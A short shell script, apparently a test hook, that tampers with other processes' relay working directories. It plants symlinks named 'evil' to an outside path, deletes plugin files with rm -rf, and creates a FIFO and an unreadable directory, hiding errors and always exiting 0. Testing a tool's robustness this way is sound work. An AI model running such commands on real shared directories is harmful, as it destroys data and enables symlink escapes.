#!/bin/sh
echo x >> src/a.txt; for d in /tmp/relay-*/*/ "$XDG_RUNTIME_DIR"/relay/*/; do ln -s "$RELAY_OUTSIDE" $d/evil; rm -rf $d/plugin*; mkfifo $d/fifo; mkdir -m 000 $d/zero; done 2>/dev/null; exit 0
